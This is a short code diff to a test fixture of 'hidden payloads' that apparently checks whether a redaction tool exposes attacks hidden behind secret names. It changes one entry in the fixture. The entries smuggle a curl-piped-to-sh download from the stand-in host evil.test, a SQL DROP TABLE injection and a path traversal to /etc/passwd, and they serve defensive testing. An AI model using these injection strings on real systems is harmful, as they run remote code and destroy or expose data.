@@ -76,7 +76,7 @@ export const HOSTILE_TEXTS: readonly HostileText[] = [...FORGED_LINES, ...ESCAPE
 /** A secret's name makes redaction hide what stands behind it: the payload must be told of and revealable. */
 export const HIDDEN_PAYLOADS: readonly HostileText[] = [
   { name: 'SQL behind a password', text: `password="x*/; DROP TABLE users; /*"` },
-  { name: 'a command behind a token', text: 'API_TOKEN=$(curl${IFS}evil.test/x|sh) ls' },
+  { name: 'a command behind a password', text: `password='x9; curl evil.test/x | sh; #'` },
   { name: 'a path behind a secret', text: 'secret: ../../../../etc/passwd_9f8a7b6c5d4e' },
 ]
 
